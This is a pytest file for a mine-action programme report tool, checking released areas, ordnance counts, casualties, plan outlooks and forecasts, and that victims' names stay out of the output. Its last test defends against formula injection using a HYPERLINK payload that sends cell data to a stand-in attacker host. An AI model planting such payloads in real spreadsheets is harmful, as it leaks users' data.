"""The programme report for government and donors: figures checked against the reports."""

from __future__ import annotations

import datetime as dt
import re
from collections import Counter

import pytest
from helpers import load
from openpyxl import load_workbook
from typer.testing import CliRunner

from safeground import example
from safeground.cli import app
from safeground.errors import ValidationError
from safeground.record.ledger import Ledger
from safeground.record.storage import Database
from safeground.reports import programme as programme_report


@pytest.fixture
def ledger(database_url):
    led = Ledger(Database.open(database_url))
    load(led, example.records())
    return led


def _in(rec, start, end):
    return start <= dt.date.fromisoformat(rec["date_of_information"]) <= end


def test_figures_match_the_reports(ledger):
    start, end = dt.date(2021, 1, 1), dt.date(2021, 12, 31)
    recs = example.records()
    rep = programme_report.build(ledger, start, end)

    released = Counter()
    for r in recs:
        if r["report_type"] == "land_release" and _in(r, start, end):
            released[r["release"]] += ledger.projector.area_m2(r["geometry"])
    for kind in ("cancelled", "reduced", "cleared"):
        assert rep.released_m2[kind] == pytest.approx(released[kind], rel=1e-4)
    assert rep.released_m2["cancelled"] > 0 and rep.released_m2["cleared"] > 0

    items = Counter()
    for r in recs:
        if r["report_type"] == "ordnance" and _in(r, start, end):
            items[r["category"]] += int(r.get("quantity") or 1)
    assert rep.items_by_category == dict(items)

    victims = [r for r in recs if r["report_type"] == "victim"]
    assert rep.casualties["killed"] == sum(v["outcome"] == "killed" for v in victims)
    assert rep.casualties["injured"] == sum(v["outcome"] == "injured" for v in victims)
    eore = [r for r in recs if r["report_type"] == "risk_education"]
    assert rep.eore["sessions"] == len(eore)
    assert rep.eore["girls"] == sum(int(r.get("girls") or 0) for r in eore)
    qa = [r for r in recs if r["report_type"] == "qa_visit"]
    assert rep.qa["visits"] == len(qa)
    assert sum(sum(s.values()) for s in rep.referrals.values()) == sum(
        r["report_type"] == "referral" for r in recs)

    # the monthly series adds up to the period totals, and operators add up too
    assert len(rep.months) == 12
    for kind in ("cancelled", "reduced", "cleared"):
        assert sum(m.released_m2[kind] for m in rep.months) == pytest.approx(
            rep.released_m2[kind], abs=1.0)
        assert sum(o.released_m2[kind] for o in rep.organisations) == pytest.approx(
            rep.released_m2[kind], abs=1.0)
    assert sum(m.items for m in rep.months) == sum(items.values())
    assert sum(m.killed + m.injured for m in rep.months) == len(victims)
    # standing figures: nothing was released before the period, all of it by its end
    assert sum(rep.at_start.released_m2.values()) == 0
    assert sum(rep.at_end.released_m2.values()) == pytest.approx(rep.released_total_m2, rel=1e-4)


def test_a_period_only_counts_its_own_events(ledger):
    early = programme_report.build(ledger, dt.date(2021, 1, 1), dt.date(2021, 2, 28))
    late = programme_report.build(ledger, dt.date(2021, 3, 1), dt.date(2021, 12, 31))
    whole = programme_report.build(ledger, dt.date(2021, 1, 1), dt.date(2021, 12, 31))
    for kind in ("cancelled", "reduced", "cleared"):
        assert early.released_m2[kind] + late.released_m2[kind] == pytest.approx(
            whole.released_m2[kind], abs=1.0)
    assert early.casualties.get("killed", 0) == whole.casualties["killed"]
    assert late.casualties == {}
    assert sum(late.items_by_category.values()) == sum(whole.items_by_category.values())
    empty = programme_report.build(ledger, dt.date(2019, 1, 1), dt.date(2019, 12, 31))
    assert empty.released_total_m2 == 0 and empty.accidents == 0 and empty.eore["sessions"] == 0


def test_a_period_that_ends_before_it_starts_is_refused(ledger):
    with pytest.raises(ValidationError) as exc:
        programme_report.build(ledger, dt.date(2022, 1, 1), dt.date(2021, 1, 1))
    assert exc.value.code == "PERIOD_INVALID"


def test_html_and_workbook_hold_the_figures_and_no_personal_data(ledger, tmp_path):
    rep = programme_report.build(ledger, dt.date(2021, 1, 1), dt.date(2021, 12, 31))
    html = programme_report.render_html(rep, "Donor report")
    assert "<svg" in html and "Donor report" in html
    assert not re.search(r"(src|href)\s*=\s*[\"']?(https?:)?//", html)  # nothing fetched
    assert f"{rep.released_total_m2 / 1e6:,.2f}" in html
    names = [r["name"] for r in example.records() if r["report_type"] == "victim"
             and r.get("name")]
    assert names and not any(n in html for n in names)
    book = load_workbook(programme_report.write_workbook(rep, tmp_path / "r.xlsx"))
    assert set(book.sheetnames) >= {"summary", "months", "organisations", "items"}
    summary = {row[0]: row[1] for row in book["summary"].iter_rows(values_only=True)}
    assert summary["cleared m2"] == rep.released_m2["cleared"]
    assert summary["items destroyed"] == sum(rep.items_by_category.values())


def test_cli_writes_the_report(ledger, tmp_path, database_url):
    out = tmp_path / "report.html"
    r = CliRunner().invoke(app, ["report", str(out), "--from", "2021-01-01", "--to",
                                 "2021-12-31", "--xlsx", str(tmp_path / "r.xlsx"),
                                 "--db", database_url], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    assert out.exists() and (tmp_path / "r.xlsx").exists()
    assert "km² released" in r.output
    bad = CliRunner().invoke(app, ["report", str(out), "--from", "2022-01-01", "--to",
                                   "2021-01-01", "--db", database_url])
    assert bad.exit_code != 0 and "PERIOD_INVALID" in bad.output


def test_the_plan_outlook_adds_up_to_the_plan(ledger, tmp_path, database_url):
    """With a plan folder the report carries the plan's outlook: per year the areas it
    releases and the people it lets return, adding up to the plan's own figures, in the HTML,
    the workbook and the CLI; a folder without plan tables is refused."""
    from safeground.planning.heuristic import plan_heuristic
    from safeground.planning.outputs import write_all
    from safeground.planning.record import instance_from_record

    inst = instance_from_record(ledger, start=dt.date(2021, 4, 1), horizon_weeks=260)
    plan = plan_heuristic(inst, seconds=0.3)
    write_all(plan, tmp_path / "plan")
    rep = programme_report.build(ledger, dt.date(2021, 1, 1), dt.date(2021, 12, 31),
                                 tmp_path / "plan")
    summary = plan.summary()
    free, years, rest = rep.outlook[0], rep.outlook[1:-1], rep.outlook[-1]
    assert free["year"] == "free at the start" and free["areas_released"] == 0
    assert free["people_able_to_return"] == summary["people_free_at_start"]
    assert rest["year"] == "not within the plan" and years
    assert [y["year"] for y in years] == sorted(y["year"] for y in years)
    assert sum(y["areas_released"] for y in years) == summary["areas_released_in_horizon"]
    assert sum(y["areas_released"] for y in rep.outlook) == len(inst.areas)
    assert sum(y["km2_released"] for y in rep.outlook) == pytest.approx(
        sum(a.remaining_m2 for a in inst.areas) / 1e6)
    assert years[-1]["people_able_to_return_so_far"] == pytest.approx(
        summary["people_returned_in_horizon"])
    assert free["settlements_returning"] + sum(y["settlements_returning"] for y in years) == \
        summary["settlements_returned_in_horizon"]
    html = programme_report.render_html(rep)
    assert 'id="outlook"' in html and "not within the plan" in html
    book = load_workbook(programme_report.write_workbook(rep, tmp_path / "r.xlsx"))
    rows = list(book["outlook"].iter_rows(values_only=True))
    assert rows[0][0] == "year" and len(rows) == len(rep.outlook) + 1
    assert programme_report.build(ledger, dt.date(2021, 1, 1), dt.date(2021, 12, 31)).outlook \
        is None
    out = tmp_path / "with-plan.html"
    ok = CliRunner().invoke(app, ["report", str(out), "--from", "2021-01-01", "--plan",
                                  str(tmp_path / "plan"), "--db", database_url])
    assert ok.exit_code == 0, ok.output
    assert 'id="outlook"' in out.read_text(encoding="utf-8")
    bad = CliRunner().invoke(app, ["report", str(out), "--from", "2021-01-01", "--plan",
                                   str(tmp_path), "--db", database_url])
    assert bad.exit_code != 0 and "OUTPUT_NOT_AVAILABLE" in bad.output



def test_the_completion_forecast_is_reported(ledger, tmp_path):
    """A plan folder with ``forecast.csv`` puts the P10 / P50 / P90 completion dates and the
    people able to return in the report's HTML and workbook; without it there is none."""
    from safeground.planning.heuristic import plan_heuristic
    from safeground.planning.outputs import write_all, write_forecast
    from safeground.planning.record import instance_from_record
    from safeground.planning.uncertainty import forecast

    inst = instance_from_record(ledger, start=dt.date(2021, 4, 1), horizon_weeks=104)
    plan = plan_heuristic(inst, seconds=0.3)
    write_all(plan, tmp_path / "plan")
    period = (dt.date(2021, 1, 1), dt.date(2021, 12, 31))
    assert programme_report.build(ledger, *period, tmp_path / "plan").forecast is None
    fc = forecast(plan, runs=40)
    write_forecast(fc, tmp_path / "plan" / "forecast.csv")
    rep = programme_report.build(ledger, *period, tmp_path / "plan")
    assert [r["quantile"] for r in rep.forecast] == ["P10", "P50", "P90"]
    assert [r["completion_date"] for r in rep.forecast] == [
        fc.completion_date[q].isoformat() for q in ("P10", "P50", "P90")]
    html = programme_report.render_html(rep)
    table = html.split('id="forecast"')[1].split("</table>")[0]
    assert f"<td>median (P50)</td><td>{fc.completion_date['P50'].isoformat()}</td>" in table
    assert f"{int(fc.people_returned[5]['P50']):,}" in table
    book = load_workbook(programme_report.write_workbook(rep, tmp_path / "r.xlsx"))
    rows = list(book["forecast"].iter_rows(values_only=True))
    assert rows[0][:2] == ("quantile", "completion_date") and len(rows) == 4


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_an_organisation_named_like_a_formula_is_text_in_the_workbook(ledger, tmp_path):
    """CSV / formula injection: a name anyone may submit must not become a live formula in the
    donors' workbook (``cells.xlsx_append``); the figures stay numbers."""
    rec = {**next(r for r in example.records() if r["object_id"] == "ORG-NGO1"),
           "name": HYPERLINK, "date_of_information": "2021-02-01"}
    rec.pop("submission_id", None)
    load(ledger, [rec])
    rep = programme_report.build(ledger, dt.date(2021, 1, 1), dt.date(2021, 12, 31))
    assert HYPERLINK in [o.organisation for o in rep.organisations]
    path = programme_report.write_workbook(rep, tmp_path / "r.xlsx")
    sheet = load_workbook(path)["organisations"]
    cells = [row for row in sheet.iter_rows(min_row=2) if row[0].value == HYPERLINK]
    assert len(cells) == 1
    name, *figures = cells[0]
    assert name.data_type == "s" and name.quotePrefix
    assert all(c.data_type == "n" for c in figures) and any(c.value for c in figures)
    import zipfile

    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"HYPERLINK" in xml     # no formula element anywhere
